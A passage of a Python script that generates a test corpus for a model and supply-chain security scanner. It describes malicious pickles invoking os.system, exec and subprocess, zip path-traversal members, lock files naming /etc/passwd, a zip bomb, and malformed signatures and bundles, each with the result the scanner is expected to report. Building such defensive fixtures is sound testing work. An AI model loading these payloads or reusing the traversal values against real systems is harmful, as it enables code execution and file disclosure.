        "check,typosquats,parse:downloads",
        "weird.py",
        "ok",
        "-",
        "from_pretrained with *args/**kwargs, f-strings, walrus, non-string revisions",
        _b(
            "import transformers as tf\nfrom huggingface_hub import hf_hub_download as dl\n"
            "a = tf.AutoModel.from_pretrained(*args, **kwargs)\n"
            "b = tf.AutoModel.from_pretrained(f'{org}/{name}', revision=123)\n"
            "c = dl(repo_id=(x := 'a/b'), revision=None, filename=...)\n"
            "d = tf.pipeline(model=['a'], revision=b'main')\n"
            "e = tf.AutoModel.from_pretrained('a/b', revision='main' 'x', trust_remote_code=1)\n"
            "torch.hub.load('a/b:' + ref, 'm')\n"
        ),
    ),
    Entry(
        "py-syntax-error.pysrc",
        "check,parse:downloads",
        "broken.py",
        "ok",
        "-",
        "a Python file that does not parse (reported, not crashed)",
        _b("def f(:\n    AutoModel.from_pretrained('a/b')\n"),
    ),
    # Pickles and model files ---------------------------------------------------------------
    Entry(
        "pickle-os-system.pkl",
        "check,parse:pickle",
        "model.pkl",
        "finding:unsafe-pickle",
        "unsafe-pickle",
        f"GLOBAL os.system + REDUCE creating {CANARY}; must be flagged, never loaded",
        PICKLE_OS_SYSTEM,
    ),
    Entry(
        "pickle-exec-stack-global.pkl",
        "check,parse:pickle",
        "model.pkl",
        "finding:unsafe-pickle",
        "unsafe-pickle",
        "protocol 4 STACK_GLOBAL builtins.exec",
        PICKLE_EXEC_STACK_GLOBAL,
    ),
    Entry(
        "pickle-memo-indirect.pkl",
        "check,parse:pickle",
        "model.pkl",
        "finding:unsafe-pickle",
        "unsafe-pickle",
        "STACK_GLOBAL whose module and name come from the memo (posix.system)",
        PICKLE_MEMO_INDIRECT,
    ),
    Entry(
        "pickle-inst-subprocess.pkl",
        "check,parse:pickle",
        "model.pkl",
        "finding:unsafe-pickle",
        "unsafe-pickle",
        "protocol 0 INST subprocess.call",
        PICKLE_INST_SUBPROCESS,
    ),
    Entry(
        "pickle-getattr-import.bin",
        "check,parse:pickle",
        "pytorch_model.bin",
        "finding:unsafe-pickle",
        "unsafe-pickle",
        "builtins.getattr(builtins.__import__('os'), 'system')",
        PICKLE_GETATTR_IMPORT,
    ),
    Entry(
        "pickle-truncated.pkl",
        "check,parse:pickle",
        "model.pkl",
        "ok",
        "-",
        "a dangerous pickle cut off halfway (no STOP)",
        PICKLE_OS_SYSTEM[:14],
    ),
    Entry(
        "pickle-huge-memo.pkl",
        "check,parse:pickle",
        "model.pkl",
        "ok",
        "-",
        "LONG_BINPUT 2^32-1 and LONG_BINGET of a missing index",
        PICKLE_HUGE_MEMO,
    ),
    Entry(
        "pickle-deep-marks.pkl",
        "check,parse:pickle",
        "model.pkl",
        "ok",
        "-",
        "50,000 nested MARKs",
        PICKLE_DEEP_MARKS,
    ),
    Entry(
        "pickle-deep-lists.pkl",
        "check,parse:pickle",
        "model.pkl",
        "ok",
        "-",
        "30,000 nested lists (recursion in a structural walker)",
        PICKLE_DEEP_LISTS,
    ),
    Entry(
        "pickle-huge-unicode8.pkl",
        "check,parse:pickle",
        "model.pkl",
        "ok",
        "-",
        "BINUNICODE8 claiming 2^62 bytes (must not allocate it)",
        PICKLE_HUGE_UNICODE8,
    ),
    Entry(
        "pickle-huge-frame.pkl",
        "check,parse:pickle",
        "model.pkl",
        "ok",
        "-",
        "a protocol 4 FRAME claiming 2^63-1 bytes",
        PICKLE_HUGE_FRAME,
    ),
    Entry(
        "pickle-binbytes-lie.pkl",
        "check,parse:pickle",
        "model.pkl",
        "ok",
        "-",
        "BINBYTES claiming 4 GiB with 2 bytes present",
        PICKLE_BINBYTES_LIE,
    ),
    Entry(
        "pickle-next-buffer.pkl",
        "check,parse:pickle",
        "model.pkl",
        "ok",
        "-",
        "protocol 5 NEXT_BUFFER/READONLY_BUFFER with no buffers supplied",
        PICKLE_NEXT_BUFFER,
    ),
    Entry(
        "pickle-bad-proto.pkl",
        "check,parse:pickle",
        "model.pkl",
        "ok",
        "-",
        "PROTO 255",
        PICKLE_BAD_PROTO,
    ),
    Entry(
        "pickle-no-stop.pkl",
        "check,parse:pickle",
        "model.pkl",
        "ok",
        "-",
        "a valid list pickle without its STOP opcode",
        PICKLE_NO_STOP,
    ),
    Entry(
        "pickle-garbage.ckpt",
        "check,parse:pickle",
        "model.ckpt",
        "ok",
        "-",
        "4 KiB of random bytes with a checkpoint extension",
        GARBAGE,
    ),
    Entry(
        "torch-dangerous.pt",
        "check,parse:pickle",
        "model.pt",
        "finding:unsafe-pickle",
        "unsafe-pickle",
        "a PyTorch zip whose archive/data.pkl calls os.system",
        _torch_zip({"archive/data.pkl": PICKLE_OS_SYSTEM, "archive/version": b"3\n"}),
    ),
    Entry(
        "torch-traversal.pt",
        "check,parse:pickle",
        "model.pt",
        "finding:unsafe-pickle",
        "unsafe-pickle",
        "zip members named ../../x/data.pkl and /abs/data.pkl (never extracted)",
        _torch_zip(
            {
                "../../../tmp/evil/data.pkl": PICKLE_OS_SYSTEM,
                "/abs/data.pkl": PICKLE_OS_SYSTEM,
                "archive/version": b"3\n",
            }
        ),
    ),
    Entry(
        "torch-truncated.pt",
        "check,parse:pickle",
        "model.pt",
        "ok",
        "-",
        "the first half of a PyTorch zip (no central directory)",
        _torch_zip({"archive/data.pkl": PICKLE_OS_SYSTEM * 20})[:300],
    ),
    Entry(
        "torch-lying-sizes.pt",
        "check,parse:pickle",
        "model.pt",
        "ok",
        "-",
        "a central directory claiming a 4 GiB data.pkl (bounded member reads)",
        _zip_lying_sizes(),
    ),
    Entry(
        "torch-duplicate-names.pt",
        "check,parse:pickle",
        "model.pt",
        "finding:unsafe-pickle",
        "unsafe-pickle",
        "two archive/data.pkl members: a benign first, a dangerous second",
        _torch_duplicate_names(),
    ),
    Entry(
        "torch-bad-method.pt",
        "check,parse:pickle,parse:model-file",
        "model.pt",
        "ok",
        "-",
        "a zip member needing version 6.4 with compression method 99 (zipfile raised "
        "NotImplementedError)",
        _zip_bad_method(),
    ),
    Entry(
        "torch-encrypted.pt",
        "check,parse:model-file",
        "model.pt",
        "ok",
        "-",
        "a zip whose data.pkl is flagged encrypted (zipfile raises RuntimeError)",
        _zip_patched("encrypted"),
    ),
    Entry(
        "torch-corrupt-deflate.pt",
        "check,parse:model-file",
        "model.pt",
        "ok",
        "-",
        "a zip whose deflate stream is garbage (zlib.error while reading the member)",
        _zip_patched("corrupt"),
    ),
    Entry(
        "torch-corrupt-first-member.pt",
        "check,parse:model-file",
        "model.pt",
        "finding:unsafe-pickle",
        "unsafe-pickle",
        "a corrupt first .pkl member hiding a dangerous archive/data.pkl behind it (the "
        "scan used to stop at the first unreadable member)",
        _zip_corrupt_first_member(),
    ),
    Entry(
        "torch-nested-zip.pt",
        "check,parse:pickle",
        "model.pt",
        "ok",
        "-",
        "a zip inside the zip holding the dangerous pickle",
        _nested_zip(),
    ),
    Entry(
        "torch-not-a-zip.pth",
        "check,parse:pickle",
        "model.pth",
        "ok",
        "-",
        "zip magic followed by garbage",
        b"PK\x03\x04" + GARBAGE[:512],
    ),
    # Model lock ---------------------------------------------------------------------------
    Entry(
        "lock-traversal.toml",
        "check,models-verify,parse:model-lock",
        "chainward.lock",
        "ok",
        "-",
        "file paths with .., absolute paths and Windows/UNC paths (must be refused, never read)",
        _b(
            '[[model]]\nname = "m"\nsource = "hf://a/b"\nrevision = "' + "a" * 40 + '"\n'
            '[[model.file]]\npath = "../../../../etc/passwd"\nsize = 1\nsha256 = "'
            + "0"
            * 64
            + '"\n'
            '[[model.file]]\npath = "/etc/passwd"\nsize = 1\nsha256 = "' + "0" * 64 + '"\n'
            '[[model.file]]\npath = "C:\\\\Windows\\\\win.ini"\nsize = 1\nsha256 = "'
            + "0"
            * 64
            + '"\n'
            '[[model.file]]\npath = "models/../../x"\nsize = 1\nsha256 = "' + "0" * 64 + '"\n'
        ),
    ),
    Entry(
        "lock-wrong-types.toml",
        "check,models-verify,parse:model-lock",
        "chainward.lock",
        "ok",
        "-",
        "model a string, files a table, size a string, sha256 an int",
        _b('model = "x"\n[[file]]\npath = 1\n'),
    ),
    Entry(
        "lock-wrong-types-2.toml",
        "check,models-verify,parse:model-lock",
        "chainward.lock",
        "ok",
        "-",
        "model entries with size a string, sha256 an int, files a table",
        _b(
            '[[model]]\nname = 1\nsource = []\nfile = {path = "x"}\n[[model]]\nname = "n"\n'
            '[[model.file]]\npath = "a"\nsize = "big"\nsha256 = 5\n'
        ),
    ),
    Entry(
        "lock-huge-size.toml",
        "check,models-verify,parse:model-lock",
        "chainward.lock",
        "ok",
        "-",
        "size = 2^70 and a negative size",
        _b(
            '[[model]]\nname = "m"\nsource = "./m"\n[[model.file]]\npath = "m.bin"\nsize = '
            + str(2**70)
            + '\nsha256 = "'
            + "0" * 64
            + '"\n[[model.file]]\npath = "n.bin"\n'
            'size = -5\nsha256 = "' + "0" * 64 + '"\n'
        ),
    ),
    Entry(
        "lock-long-path.toml",
        "check,models-verify,parse:model-lock",
        "chainward.lock",
        "finding:model-path-escape",
        "model-path-escape",
        "a locked path with a 300-character component (Path.is_file raised ENAMETOOLONG)",
        _b(
            '[[model]]\nname = "m"\nsource = "./m"\n[[model.file]]\npath = "'
            + "a" * 300
            + '/w.bin"\nsize = 1\nsha256 = "'
            + "0" * 64
            + '"\n'
        ),
    ),
    Entry(
        "lock-nul-path.toml",
        "check,models-verify,parse:model-lock",
        "chainward.lock",
        "ok",
        "-",
        "a path with an escaped NUL (os.stat raises ValueError 'embedded null byte')",
        _b(
            '[[model]]\nname = "m"\nsource = "./m"\n[[model.file]]\npath = "a\\u0000b"\n'
            'size = 1\nsha256 = "' + "0" * 64 + '"\n'
        ),
    ),
    Entry(
        "lock-bad-digests.toml",
        "check,models-verify,parse:model-lock",
        "chainward.lock",
        "ok",
        "-",
        "digests of the wrong length, upper case, non-hex and empty",
        _b(
            '[[model]]\nname = "m"\nsource = "./m"\n'
            + "".join(
                f'[[model.file]]\npath = "f{i}"\nsize = 0\nsha256 = "{d}"\n'
                for i, d in enumerate(["", "zz", "0" * 63, "A" * 64, "0" * 65 + "\\n"])
            )
        ),
    ),
    Entry(
        "lock-invalid-toml.toml",
        "check,models-verify,parse:model-lock",
        "chainward.lock",
        "finding:invalid-model-lock",
        "invalid-model-lock",
        "a lock file that is not TOML",
        _b("[[model]\nname = \n"),
    ),
    Entry(
        "lock-deep.toml",
        "check,models-verify,parse:model-lock",
        "chainward.lock",
        "finding:invalid-model-lock",
        "invalid-model-lock",
        "a lock nested 20,000 arrays deep",
        _b("model = " + "[" * 20_000 + "]" * 20_000 + "\n"),
    ),
    # Commit objects -----------------------------------------------------------------------
    Entry(
        "commit-gpgsig-garbage.txt",
        "commits,parse:commit",
        "-",
        "ok",
        "-",
        "a gpgsig header whose armor holds garbage that is not base64",
        _commit(
            _WHO
            + "\n"
            + _gpgsig(
                "-----BEGIN PGP SIGNATURE-----\n\n!!!! not base64 ????\n-----END PGP SIGNATURE-----"
            )
        ),
    ),
    Entry(
        "commit-gpgsig-bad-packets.txt",
        "commits,parse:commit",
        "-",
        "ok",
        "-",
        "valid base64 armor of random packet bytes with a wrong CRC",
        _commit(_WHO + "\n" + _gpgsig(_armor("PGP SIGNATURE", GARBAGE[:200], "", "=AAAA"))),
    ),
    Entry(
        "commit-gpgsig-unterminated.txt",
        "commits,parse:commit",
        "-",
        "ok",
        "-",
        "a gpgsig BEGIN line with no END",
        _commit(_WHO + "\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n iQEzBAABCAAdFiEE"),
    ),
    Entry(
        "commit-cms-truncated.txt",
        "commits,parse:commit",
        "-",
        "ok",
        "-",
        "a gitsign (CMS) signature whose DER claims 64 KiB and stops after the OID",
        _commit(_WHO + "\n" + _gpgsig(_armor("SIGNED MESSAGE", CMS_TRUNCATED, ""))),
    ),
    Entry(
        "commit-cms-huge-length.txt",
        "commits,parse:commit",
        "-",
        "ok",
        "-",
        "a CMS signature whose DER length field says 2^63 bytes",
        _commit(_WHO + "\n" + _gpgsig(_armor("SIGNED MESSAGE", CMS_HUGE_LENGTH, ""))),
    ),
    Entry(
        "commit-ssh-wrong-magic.txt",
        "commits,parse:commit",
        "-",
        "ok",
        "-",
        "an SSH signature with the wrong magic preamble",
        _commit(_WHO + "\n" + _gpgsig(_armor("SSH SIGNATURE", SSH_WRONG_MAGIC, ""))),
    ),
    Entry(
        "commit-ssh-huge-string.txt",
        "commits,parse:commit",
        "-",
        "ok",
        "-",
        "an SSHSIG whose public-key string length is 4 GiB",
        _commit(_WHO + "\n" + _gpgsig(_armor("SSH SIGNATURE", SSH_HUGE_STRING, ""))),
    ),
    Entry(
        "commit-ssh-garbage.txt",
        "commits,parse:commit",
        "-",
        "ok",
        "-",
        "an SSH signature armor of random bytes",
        _commit(_WHO + "\n" + _gpgsig(_armor("SSH SIGNATURE", SSH_GARBAGE, ""))),
    ),
    Entry(
        "commit-two-signatures.txt",
        "commits,parse:commit",
        "-",
        "ok",
        "-",
        "two gpgsig headers and a gpgsig-sha256 header in a SHA-1 repository",
        _commit(
            _WHO
            + "\n"
            + _gpgsig(_armor("PGP SIGNATURE", b"\x88\x00", ""))
            + "\n"
            + _gpgsig(_armor("SSH SIGNATURE", SSH_GARBAGE, ""))
            + "\n"
            + _gpgsig(_armor("PGP SIGNATURE", b"\x00", ""), "gpgsig-sha256")
        ),
    ),
    Entry(
        "commit-bad-identity.txt",
        "commits,parse:commit",
        "-",
        "ok",
        "-",
        "author without email brackets, a 30-digit timestamp, a +9999 zone, no committer",
        _commit("author Nobody 999999999999999999999999999999 +9999\nauthor Twice <a@b> 1 +0000"),
    ),
    Entry(
        "commit-huge-timestamp.txt",
        "commits,parse:commit",
        "-",
        "ok",
        "-",
        "an author timestamp of 5,000 digits (int() digit limit raised ValueError)",
        _commit(
            f"author A <a@b> {HUGE_INT_DIGITS} +0000\ncommitter C <c@d> -{HUGE_INT_DIGITS} -9999"
        ),
    ),
    Entry(
        "commit-non-utf8.txt",
        "commits,parse:commit",
        "-",
        "ok",
        "-",
        "an encoding header naming an unknown codec and a Latin-1 message with NUL",
        _commit(_WHO + "\nencoding evil-codec", "") + b"r\xe9sum\xe9 \x00 \xff\xfe\n",
    ),
    Entry(
        "commit-mergetag-garbage.txt",
        "commits,parse:commit",
        "-",
        "ok",
        "-",
        "a mergetag header holding a tag with a garbage signature",
        _commit(
            _WHO + "\nmergetag object " + "0" * 40 + "\n type commit\n tag v1\n"
            " tagger X <x@y> 1 +0000\n \n msg\n -----BEGIN PGP SIGNATURE-----\n"
            " garbage\n -----END PGP SIGNATURE-----"
        ),
    ),
    Entry(
        "commit-no-headers.txt",
        "commits,parse:commit",
        "-",
        "ok",
        "-",
        "a commit object with no headers at all, only a message",
        b"\njust a message\n",
    ),
    # Signature blocks read on their own (allowed signers, keys) --------------------------------
    Entry(
        "allowed-signers-weird",
        "parse:allowed-signers",
        "-",
        "ok",
        "-",
        "allowed-signers lines with unclosed quotes, bad valid-after dates, 100k-char keys, NUL",
        _b(
            'a@b namespaces="git ssh-ed25519 AAAA\n* valid-after="notadate" ssh-ed25519 AAAA\n'
            "x@y cert-authority,valid-before=99999999999999999 ssh-rsa " + "A" * 100_000 + "\n"
            "\x00\n@@@ ssh-ed25519\n" + 'z@z namespaces="' + '\\"' * 5000 + "\n"
        ),
    ),
    Entry(
        "openpgp-key-garbage.asc",
        "parse:openpgp-key",
        "-",
        "ok",
        "-",
        "an armored public key block of random packets with a lying CRC",
        _b(_armor("PGP PUBLIC KEY BLOCK", GARBAGE[:1024], "") + "\n=abcd\n"),
    ),
    # Sigstore bundles -------------------------------------------------------------------
    Entry(
        "bundle-not-json.json",
        "verify-bundle,verify-pypi,verify-key,parse:bundle",
        "-",
        "not-verified",
        "-",
        "a bundle that is not JSON at all",
        GARBAGE[:256],
    ),
    Entry(
        "bundle-truncated.json",
        "verify-bundle,verify-pypi,verify-key,parse:bundle",
        "-",
        "not-verified",
        "-",
        "a bundle cut off in the middle of a string",
        _b(
            '{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json", '
            '"verificationMaterial": '
            '{"certificate": {"rawBytes": "MIIC'
        ),
    ),
    Entry(
        "bundle-wrong-types.json",
        "verify-bundle,verify-pypi,verify-key,parse:bundle",
        "-",
        "not-verified",
        "-",
        "every bundle field of the wrong JSON type",
        _b(
            '{"mediaType": 5, "verificationMaterial": [], "dsseEnvelope": "x",'
            ' "messageSignature": {"signature": 7}}'
        ),
    ),
    Entry(
        "bundle-deep.json",
        "verify-bundle,verify-pypi,verify-key,parse:bundle",
        "-",
        "not-verified",
        "-",
        "a bundle nested 20,000 arrays deep",
        DEEP_JSON,
    ),
    Entry(
        "bundle-huge-int.json",
        "verify-bundle,verify-pypi,verify-key,parse:bundle",
        "-",
        "not-verified",
        "-",
        "a logIndex with 5,000 digits and integratedTime 1e400",
        _b(
            '{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",'
            ' "verificationMaterial": {"tlogEntries": [{"logIndex": '
            + HUGE_INT_DIGITS
            + ', "integratedTime": 1e400}]}}'
        ),
    ),
    Entry(
        "bundle-unknown-media.json",
        "verify-bundle,verify-pypi,verify-key,parse:bundle",
        "-",
        "not-verified",
        "-",
        "an unknown bundle media type",
        _b('{"mediaType": "application/vnd.evil+json", "verificationMaterial": {}}'),
    ),
    Entry(
        "bundle-bad-base64.json",
        "verify-bundle,verify-pypi,verify-key,parse:bundle",
        "-",
        "not-verified",
        "-",
        "a DSSE envelope whose payload and signature are not base64 and whose cert is garbage DER",
        _b(
            '{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",'
            ' "verificationMaterial": {"certificate": {"rawBytes": "'
            + base64.b64encode(GARBAGE[:64]).decode()
            + '"}, "tlogEntries": []},'
            ' "dsseEnvelope": {"payload": "!!!", "payloadType": "application/vnd.in-toto+json",'
            ' "signatures": [{"sig": "@@@"}]}}'
        ),
    ),
    Entry(
        "bundle-null.json",
        "verify-bundle,verify-pypi,verify-key,parse:bundle",
        "-",
        "not-verified",
        "-",
        "a bundle that is JSON null",
        b"null",
    ),
    Entry(
        "intoto-multi.jsonl",
        "verify-bundle,verify-pypi,verify-key,parse:bundle",
        "-",
        "not-verified",
        "-",
        "a .intoto.jsonl with two envelopes, a blank line and a truncated third",
        _b(
            '{"payload": "e30=", "payloadType": "application/vnd.in-toto+json", '
            '"signatures": []}\n\n'
            '{"payload": "e30=", "payloadType": "x", "signatures": [{"sig": "AA=="}]}\n{"payl'
        ),
    ),
]

GENERATED: list[Entry] = [
    Entry(
        "gen:req-100mb-line",
        "check",
        "requirements.txt",
        "too-large",
        "-",
        "generator: one 100-MB line (torch==1.0, 100 MB of NULs, a comment; sparse); "
        "over max-file-size",
    ),
    Entry(
        "gen:req-4mb-line",
        "check,pin",
        "requirements.txt",
        "ok",
        "-",
        "generator: a 4-MB requirement line under the default limit (no quadratic scan)",
    ),
    Entry(
        "gen:sparse-8gb-model",
        "check",
        "big/pytorch_model.bin",
        "ok",
        "-",
        "generator: an 8-GiB sparse file (truncate) named like a model; read only up to "
        "max-model-member-size, never whole",
    ),
    Entry(
        "gen:sparse-3gb-requirements",
        "check",
        "requirements.txt",
        "too-large",
        "-",
        "generator: a 3-GiB sparse requirements.txt",
    ),
    Entry(
        "gen:zip-bomb",
        "check",
        "bomb.pt",
        "ok",
        "-",
        "generator: a PyTorch zip whose data.pkl inflates from ~1 MB to 1 GiB",
    ),
    Entry(
        "gen:many-members-zip",
        "check",
        "many.pt",
        "ok",
        "-",
        "generator: a zip with 20,000 members",
    ),
    Entry(
        "gen:commit-huge-header",
        "commits",
        "-",
        "ok",
        "-",
        "generator: a commit object with a 2-MB author header and a 2-MB gpgsig",
    ),
    Entry(
        "gen:lock-symlink-loop",
        "check,models-verify",
        ".",
        "ok",
        "-",
        "generator: chainward.lock naming files under a symlink loop (a -> b -> a)",
    ),
    Entry(
        "gen:lock-outward-symlink",
        "check,models-verify",
        ".",
        "ok",
        "-",
        "generator: chainward.lock naming a symlink that points outside the repository",
    ),
    Entry(
        "gen:hostile-file-names",
        "check",
        ".",
        "ok",
        "-",
        "generator: workflow files named with a newline, an ESC sequence and a leading dash",
    ),
    Entry(
        "gen:fifo-manifest",
        "check",
        ".",
        "ok",
        "-",
        "generator: a named pipe called requirements.txt (a read would block forever)",
    ),
]


def write_corpus() -> None:
    """Write every corpus file and INDEX.tsv."""
    rows = ["file\truns\tplace\texpect\tneeds\tattack"]
    for entry in ENTRIES + GENERATED:
        if isinstance(entry.content, dict):
            folder = HERE / entry.file
            folder.mkdir(exist_ok=True)
            for name, data in entry.content.items():
                (folder / name).write_bytes(data)
        elif entry.content is not None:
            (HERE / entry.file).write_bytes(entry.content)
        assert "\t" not in entry.attack and "\n" not in entry.attack, entry.file
        rows.append(
            "\t".join(
                (entry.file, entry.runs, entry.place, entry.expect, entry.needs, entry.attack)
            )
        )
    (HERE / "INDEX.tsv").write_text("\n".join(rows) + "\n", encoding="utf-8")


if __name__ == "__main__":
    write_corpus()
